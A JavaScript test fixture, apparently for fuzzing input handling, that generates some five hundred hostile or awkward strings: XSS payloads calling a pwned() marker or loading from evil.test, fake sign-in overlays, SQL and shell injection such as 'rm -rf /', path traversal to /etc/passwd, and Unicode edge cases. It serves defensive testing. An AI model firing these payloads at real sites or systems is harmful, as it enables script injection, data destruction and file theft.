// Five hundred texts that mean ill, or that programs trip over. Each calls
// pwned() or loads from evil.test where it is taken for more than text.
const seeds = [
  "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<iframe src=javascript:parent.pwned()></iframe>",
  "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>", "<link rel=stylesheet href=//evil.test/x.css>",
  "<style>@import '//evil.test/x.css'</style>", "<style>*{background:url(//evil.test/x)}</style>", "<base href=//evil.test/>",
  "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<form action=//evil.test/><button>Reconnect</button></form>",
  "<a href=javascript:pwned()>click</a>", "<a href='//evil.test/'>Disconnect</a>", "<details open ontoggle=pwned()>", "<video src=x onerror=pwned()>",
  "<audio src=x onerror=pwned()>", "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>", "<body onload=pwned()>",
  "<marquee onstart=pwned()>", "<template><script>pwned()</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<!--><img src=x onerror=pwned()>-->", "<![CDATA[<script>pwned()</script>]]>", "<?xml version='1.0'?><script>pwned()</script>",
  "</title><script>pwned()</script>", "</textarea><script>pwned()</script>", "</style><script>pwned()</script>", "</script><script>pwned()</script>",
  "<dialog open><h2>Sign in again</h2><input></dialog>", "<div style='position:fixed;inset:0;background:red'>Protected</div>",
  "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "//evil.test/x.js",
  "{{constructor.constructor('pwned()')()}}", "${pwned()}", "#{pwned()}", "<%= pwned() %>", "{% pwned() %}", "[[${pwned()}]]", "{tunnel}{from}{to}{span}", "{{7*7}}",
  "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "%3Cscript%3Epwned()%3C/script%3E",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-", "＜script＞pwned()＜/script＞", "'-pwned()-'", "\"-pwned()-\"", "`-pwned()-`", "\\';pwned();//", "';pwned()//", "\");pwned();(\"",
];

const odd = [
  "\u202egnp.exe", "\u202dabc\u202c", "\u2066isolated\u2069 tail", "\u200fעברית", "\u061cعربي ١٢٣", "zero\u200bwidth\u200d\ufeffjoin", "soft\u00adhyphen", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
  "null", "undefined", "NaN", "true", "false", "0", "-0", "1e999", "[object Object]", "__proto__", "constructor", "toString", "hasOwnProperty", "null\u0000byte",
  "\u001b[31mred\u001b[0m", "\u0007bell", "tab\tand\nline\r\nends", "   spaces   ", "\u2028line\u2029paragraph", "\ufffe\uffff",
  "'; DROP TABLE events; --", "$(touch /tmp/x)", "`id`", "| rm -rf /", "../../../etc/passwd", "C:\\con\\con", "%s%n%x%d", "%00", "\\", "\"", "'", "''\"\"``",
  "👩‍👩‍👧‍👦🏳️‍🌈", "🇩🇪🇬🇧", "ﷺ", "Ω≈ç√∫", "ｆｕｌｌ", "İıŞş", "ß", "ﬁ", "x".repeat(5000), "W".repeat(300), "a b ".repeat(800), "ﷺ".repeat(40), "-".repeat(400), "=1+1", "@SUM(A1)", "+1", "-1",
];

const around = [
  (s) => s, (s) => `">${s}`, (s) => `'>${s}`, (s) => `</p></div></main>${s}`, (s) => `${s}<!--`, (s) => s.toUpperCase(),
  (s) => `\u202e${s}`, (s) => `{"a":"${s}"}`,
];

const all = [...seeds.flatMap((s) => around.map((f) => f(s))), ...odd];

/** All of them, each once, each with a mark by which it is found again. */
export const payloads = [...new Set(all)].map((s, i) => `${s}·${i}·`);
